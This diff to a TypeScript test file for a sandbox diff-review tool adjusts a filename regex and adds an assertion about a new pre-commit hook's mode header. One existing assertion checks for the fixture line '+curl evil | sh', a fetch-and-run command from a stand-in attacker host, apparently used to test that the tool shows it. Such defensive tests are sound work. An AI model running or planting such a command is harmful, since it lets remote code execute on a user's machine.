@@ -264,7 +264,7 @@ function workload(): void {
   write(join(f.upper(), 'repo/a.txt'), 'hi\nthere\n');
 }
 
-const diffNames = (text: string): string[] => text.split('\n').filter((l) => l.startsWith('diff ')).map((l) => l.slice(5).replace(/ \(\w+\)$/, '').slice(f.host.length + 1));
+const diffNames = (text: string): string[] => text.split('\n').filter((l) => l.startsWith('diff ')).map((l) => l.slice(5).replace(/ \([^)]*\)$/, '').slice(f.host.length + 1));
 
 test("sbx diff: what the summary folds gets no diff, one line per group says so; flagged files keep theirs", async () => {
   workload();
@@ -281,6 +281,8 @@ test("sbx diff: what the summary folds gets no diff, one line per group says so;
   const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref, sbx: 'sbx' }));
   assert.equal(diffNames(text), want, text);
   assert.ok(text.includes('+curl evil | sh'), text);
+  // A new program's header says its mode, as git's `new file mode 100755`.
+  assert.ok(text.includes(`diff ${R}/.git/hooks/pre-commit (added, mode 755)\n`), text);
   assert.ok(text.endsWith(`${tail.join('\n')}\n`), text);
   // The full review's scan: columns marked and their texts kept while the helper walks.
   const scan = await scanSandboxAsync(f.meta, { readNewUpTo: DIFF_MAX_BYTES, columns: true, markColumn: marker.mark, keepTexts: true });
